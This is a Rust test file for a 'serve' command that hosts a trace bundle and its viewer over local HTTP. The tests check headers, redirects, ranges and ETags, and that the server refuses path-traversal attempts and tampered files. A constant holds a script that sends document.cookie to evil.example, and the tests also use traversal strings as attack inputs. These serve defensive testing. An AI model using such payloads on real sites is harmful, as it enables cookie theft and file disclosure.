//! `serve` and `--open` as a browser sees them: the binary runs as a server, plain HTTP/1.1
//! requests over a TcpStream check what comes back.

use std::path::{Path, PathBuf};

use crate::server_process::{HttpResponse, ServerProcess, exchange, request, run_to_exit};
use crate::util::{assert_valid, fixture, run};

/// A bundle of simple.log, with the viewer it ships, in a fresh directory.
pub(crate) fn bundle_with_viewer() -> (tempfile::TempDir, PathBuf) {
    let dir = tempfile::tempdir().unwrap();
    let out = dir.path().join("bundle");
    let built = run(&[fixture("tlparse-tests/simple.log").as_str(), "-o", out.to_str().unwrap()]);
    assert!(built.status.success(), "{}", String::from_utf8_lossy(&built.stderr));
    assert_valid(&out);
    (dir, out)
}

/// The bundle files listed in its manifest whose path ends with `suffix`.
pub(crate) fn manifest_files_ending_with(bundle: &Path, suffix: &str) -> Vec<String> {
    let manifest: serde_json::Value =
        serde_json::from_slice(&std::fs::read(bundle.join("manifest.json")).unwrap()).unwrap();
    manifest["files"]
        .as_array()
        .unwrap()
        .iter()
        .map(|f| f["path"].as_str().unwrap().to_string())
        .filter(|p| p.ends_with(suffix))
        .collect()
}

#[test]
fn serves_a_bundle_with_the_content_types_a_viewer_needs() {
    let (dir, bundle) = bundle_with_viewer();
    let server = ServerProcess::start(&["serve", bundle.to_str().unwrap(), "--port", "0", "--no-open"]);
    assert!(server.stdout.contains("(Ctrl-C to stop)"), "{}", server.stdout);

    let manifest = server.get("/manifest.json");
    assert_eq!(manifest.status, 200);
    assert_eq!(manifest.body, std::fs::read(bundle.join("manifest.json")).unwrap());
    assert_eq!(manifest.header("Content-Type"), Some("application/json"));
    assert_eq!(manifest.header("Cache-Control"), Some("no-cache"));
    assert_eq!(manifest.header("Content-Encoding"), None);

    // Compressed files go out as they are: the viewer decompresses them, not the browser.
    let zst = &manifest_files_ending_with(&bundle, ".zst")[0];
    let table = server.get(&format!("/{zst}"));
    assert_eq!(table.status, 200, "{zst}");
    assert_eq!(table.header("Content-Type"), Some("application/zstd"));
    assert_eq!(table.header("Content-Encoding"), None);
    assert_eq!(table.body, std::fs::read(bundle.join(zst)).unwrap());
    for gz in manifest_files_ending_with(&bundle, ".gz") {
        let trace = server.get(&format!("/{gz}"));
        assert_eq!((trace.status, trace.header("Content-Type")), (200, Some("application/gzip")), "{gz}");
        assert_eq!(trace.header("Content-Encoding"), None);
    }
    let diagnostics = server.get("/diagnostics.jsonl");
    assert_eq!((diagnostics.status, diagnostics.header("Content-Type")), (200, Some("application/jsonl")));

    // The viewer: browsers load ES modules only with a JavaScript type.
    let module = server.get("/viewer/fzstd.js");
    assert_eq!((module.status, module.header("Content-Type")), (200, Some("text/javascript; charset=utf-8")));
    assert_eq!(module.body, std::fs::read(bundle.join("viewer/fzstd.js")).unwrap());
    let index = server.get("/");
    assert_eq!((index.status, index.header("Content-Type")), (200, Some("text/html; charset=utf-8")));
    assert_eq!(index.body, std::fs::read(bundle.join("index.html")).unwrap());
    // The viewer's folder leads to the viewer's page (it has none of its own), and redirects
    // stay on this origin: `//viewer/` would be the host `viewer` to a browser.
    for target in ["/viewer", "/viewer/", "//viewer", "/.//viewer", "/%2Fviewer"] {
        let redirect = server.get(target);
        assert_eq!((redirect.status, redirect.header("Location")), (301, Some("/")), "{target}");
    }
    let elsewhere = server.get("//evil.example/x");
    assert_eq!((elsewhere.status, elsewhere.header("Location")), (404, None));

    let head = request(&server.addr, "HEAD", "/manifest.json");
    assert_eq!(head.status, 200);
    assert!(head.body.is_empty());
    assert_eq!(head.header("Content-Length"), Some(manifest.body.len().to_string().as_str()));
    assert_eq!(head.header("Content-Type"), Some("application/json"));

    let missing = server.get("/no/such/file.json");
    assert_eq!(missing.status, 404);
    assert!(missing.body.len() < 200 && String::from_utf8_lossy(&missing.body).contains("not found"));
    assert_eq!(request(&server.addr, "POST", "/manifest.json").status, 405);

    // Nothing outside the bundle leaks, however the way out is spelled.
    std::fs::write(dir.path().join("secret.txt"), "SECRET CONTENTS").unwrap();
    #[cfg(unix)]
    std::os::unix::fs::symlink(dir.path().join("secret.txt"), bundle.join("link.txt")).unwrap();
    for escape in [
        "/../secret.txt",
        "/%2e%2e/secret.txt",
        "/%2E%2E%2Fsecret.txt",
        "/viewer/../../secret.txt",
        "/viewer/%2e%2e/%2e%2e/secret.txt",
        "/link.txt",
        &format!("/{}", dir.path().join("secret.txt").display()),
        "/../Cargo.toml",
        "/%2e%2e/Cargo.toml",
    ] {
        let refused = server.get(escape);
        assert!(matches!(refused.status, 403 | 404), "{escape}: {}", refused.status);
        let body = String::from_utf8_lossy(&refused.body);
        assert!(!body.contains("SECRET CONTENTS") && !body.contains("[package]"), "{escape}: {body}");
    }
}

#[test]
fn answers_many_requests_at_once() {
    let (_dir, bundle) = bundle_with_viewer();
    let server = ServerProcess::start(&["serve", bundle.to_str().unwrap(), "--port", "0"]);
    let files: Vec<String> = manifest_files_ending_with(&bundle, "");
    // A browser opening the viewer: several connections, each asking for a few files.
    std::thread::scope(|scope| {
        for _ in 0..12 {
            scope.spawn(|| {
                for file in files.iter().take(6) {
                    let response = server.get(&format!("/{file}"));
                    assert_eq!(response.status, 200, "{file}");
                    assert_eq!(response.body, std::fs::read(bundle.join(file)).unwrap(), "{file}");
                }
            });
        }
    });
}

#[test]
fn refuses_a_directory_that_is_not_a_bundle_and_a_port_that_is_taken() {
    let dir = tempfile::tempdir().unwrap();
    let refused = run_to_exit(&["serve", dir.path().to_str().unwrap(), "--no-open"]);
    assert_eq!(refused.status.code(), Some(2));
    let stderr = String::from_utf8_lossy(&refused.stderr);
    assert!(stderr.contains(&format!("{} is not a bundle (no manifest.json)", dir.path().display())), "{stderr}");

    // An explicit --port is kept to: when taken, the command fails instead of moving on.
    let (_bundle_dir, bundle) = bundle_with_viewer();
    let taken = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
    let port = taken.local_addr().unwrap().port().to_string();
    let busy = run_to_exit(&["serve", bundle.to_str().unwrap(), "--port", &port, "--no-open"]);
    assert_eq!(busy.status.code(), Some(2));
    assert!(String::from_utf8_lossy(&busy.stderr).contains(&format!("could not listen on 127.0.0.1:{port}")));
}

#[test]
fn without_a_port_moves_past_a_taken_default() {
    // Hold 8000 if it is free; if something else holds it, that is the case under test too.
    let _held = std::net::TcpListener::bind("127.0.0.1:8000");
    let (_dir, bundle) = bundle_with_viewer();
    let server = ServerProcess::start(&["serve", bundle.to_str().unwrap()]);
    assert_ne!(server.addr, "127.0.0.1:8000");
    assert_eq!(server.get("/manifest.json").status, 200);
}

#[test]
fn a_bundle_without_a_viewer_is_served_with_a_note() {
    let dir = tempfile::tempdir().unwrap();
    let out = dir.path().join("bundle");
    assert!(run(&[fixture("tlparse-tests/simple.log").as_str(), "-o", out.to_str().unwrap()]).status.success());
    let _ = std::fs::remove_file(out.join("index.html"));
    let server = ServerProcess::start(&["serve", out.to_str().unwrap(), "--port", "0"]);
    assert!(server.stdout.contains("ships no viewer"), "{}", server.stdout);
    assert_eq!(server.get("/manifest.json").status, 200);
    assert_eq!(server.get("/").status, 404);
}

#[test]
fn open_after_a_build_serves_the_new_bundle() {
    let dir = tempfile::tempdir().unwrap();
    let out = dir.path().join("bundle");
    let trace = fixture("tlparse-tests/simple.log");
    let server = ServerProcess::start(&[trace.as_str(), "-o", out.to_str().unwrap(), "--open", "--port", "0"]);
    assert!(server.stdout.starts_with(&format!("wrote {}", out.display())), "{}", server.stdout);
    let manifest = server.get("/manifest.json");
    assert_eq!(manifest.status, 200);
    assert_eq!(manifest.body, std::fs::read(out.join("manifest.json")).unwrap());

    // --port means nothing without --open.
    let misuse = run_to_exit(&[trace.as_str(), "-o", dir.path().join("other").to_str().unwrap(), "--port", "0"]);
    assert_eq!(misuse.status.code(), Some(2));
}

const TROJAN: &str = "<script>fetch('https://evil.example/?' + document.cookie)</script>\n";

/// Asserts a short plain refusal that leaks none of the refused file.
fn assert_refused(response: &HttpResponse, target: &str) {
    let body = String::from_utf8_lossy(&response.body);
    assert_eq!(response.status, 403, "{target}: {body}");
    assert_eq!(response.header("Content-Type"), Some("text/plain; charset=utf-8"), "{target}");
    assert!(body.starts_with("refused: ") && body.len() < 200 && !body.contains("<script>"), "{target}: {body}");
}

#[test]
fn refuses_a_trojaned_or_added_viewer_file_and_serves_the_rest() {
    let (_dir, bundle) = bundle_with_viewer();
    std::fs::write(bundle.join("index.html"), TROJAN).unwrap();
    std::fs::write(bundle.join("viewer/evil.html"), TROJAN).unwrap();
    let server = ServerProcess::start(&["serve", bundle.to_str().unwrap(), "--port", "0"]);
    assert!(
        server.stdout.contains("viewer will not be served: index.html changed since the build"),
        "{}",
        server.stdout
    );

    for target in ["/", "/index.html", "/viewer/evil.html", "/viewer/%65vil.html"] {
        assert_refused(&server.get(target), target);
    }
    let body = String::from_utf8_lossy(&server.get("/viewer/evil.html").body).to_string();
    assert!(body.contains("not a viewer file manifest.json lists"), "{body}");
    // The untouched viewer files and the bundle's own files still go out.
    assert_eq!(server.get("/viewer/fzstd.js").status, 200);
    let manifest = server.get("/manifest.json");
    assert_eq!(manifest.status, 200);
    assert_eq!(manifest.body, std::fs::read(bundle.join("manifest.json")).unwrap());
}

#[test]
fn a_viewer_file_replaced_while_serving_is_refused_from_then_on() {
    let (_dir, bundle) = bundle_with_viewer();
    let server = ServerProcess::start(&["serve", bundle.to_str().unwrap(), "--port", "0"]);
    assert!(!server.stdout.contains("will not be served"), "{}", server.stdout);
    assert_eq!(server.get("/").status, 200);
    std::fs::write(bundle.join("index.html"), TROJAN).unwrap();
    assert_refused(&server.get("/"), "/");
    assert_eq!(server.get("/manifest.json").status, 200);
}

#[test]
fn only_what_the_manifest_lists_is_served() {
    let (_dir, bundle) = bundle_with_viewer();
    // A GitHub Pages checkout keeps these beside the bundle; a stray page, a file in the
    // bundle's own folders that the manifest does not list.
    std::fs::create_dir_all(bundle.join(".git")).unwrap();
    std::fs::write(bundle.join(".git/config"), "[remote \"origin\"]\n\turl = https://token@example.com/x\n").unwrap();
    std::fs::write(bundle.join("CNAME"), "traces.example.com\n").unwrap();
    std::fs::write(bundle.join("evil.html"), TROJAN).unwrap();
    std::fs::write(bundle.join("evil.svg"), "<svg xmlns='http://www.w3.org/2000/svg'><script/></svg>").unwrap();
    std::fs::write(bundle.join("tables/notes.txt"), "not listed").unwrap();
    let allowed = "http://127.0.0.1:9";
    let server = ServerProcess::start(&["serve", bundle.to_str().unwrap(), "--port", "0", "--allow-origin", "*"]);
    let addr = &server.addr;
    for target in ["/.git/config", "/CNAME", "/evil.html", "/evil.svg", "/tables/notes.txt", "/.git/"] {
        for origin in [None, Some(allowed)] {
            let origin_header = origin.map(|o| format!("\r\nOrigin: {o}")).unwrap_or_default();
            let response = exchange(addr, &format!("GET {target} HTTP/1.1\r\nHost: {addr}{origin_header}"));
            let body = response.text();
            assert_eq!(response.status, 404, "{target}: {body}");
            assert!(body.contains("not a file of this bundle's manifest"), "{target}: {body}");
            assert!(!body.contains("url =") && !body.contains("<script"), "{target}: {body}");
        }
    }
    // Every file the manifest lists still goes out.
    for file in manifest_files_ending_with(&bundle, "") {
        assert_eq!(server.get(&format!("/{file}")).status, 200, "{file}");
    }
}

#[test]
fn ranges_and_entity_tags_as_static_servers_answer_them() {
    let (_dir, bundle) = bundle_with_viewer();
    let server = ServerProcess::start(&["serve", bundle.to_str().unwrap(), "--port", "0"]);
    let addr = &server.addr;
    let get = |target: &str, extra: &str| exchange(addr, &format!("GET {target} HTTP/1.1\r\nHost: {addr}{extra}"));
    for (target, file) in [("/manifest.json", "manifest.json"), ("/viewer/app.js", "viewer/app.js")] {
        let bytes = std::fs::read(bundle.join(file)).unwrap();
        let len = bytes.len();
        let whole = get(target, "");
        assert_eq!((whole.status, whole.header("Accept-Ranges")), (200, Some("bytes")), "{target}");
        let etag = whole.header("ETag").expect("an entity tag").to_string();
        assert!(etag.starts_with('"') && etag.ends_with('"'), "{etag}");

        let unchanged = get(target, &format!("\r\nIf-None-Match: {etag}"));
        assert_eq!((unchanged.status, unchanged.header("ETag")), (304, Some(etag.as_str())), "{target}");
        assert!(unchanged.body.is_empty());
        assert_eq!(get(target, "\r\nIf-None-Match: \"other\"").status, 200, "{target}");

        let part = get(target, "\r\nRange: bytes=10-19");
        assert_eq!(part.status, 206, "{target}");
        assert_eq!(part.header("Content-Range"), Some(format!("bytes 10-19/{len}").as_str()));
        assert_eq!(part.header("Content-Length"), Some("10"));
        assert_eq!(part.body, bytes[10..20]);
        let suffix = get(target, "\r\nRange: bytes=-5");
        assert_eq!((suffix.status, &suffix.body[..]), (206, &bytes[len - 5..]), "{target}");
        let past = get(target, &format!("\r\nRange: bytes={len}-"));
        assert_eq!(past.status, 416, "{target}");
        assert_eq!(past.header("Content-Range"), Some(format!("bytes */{len}").as_str()));
        let stale = get(target, "\r\nRange: bytes=0-1\r\nIf-Range: \"old\"");
        assert_eq!((stale.status, stale.body.len()), (200, len), "{target}");
    }
}
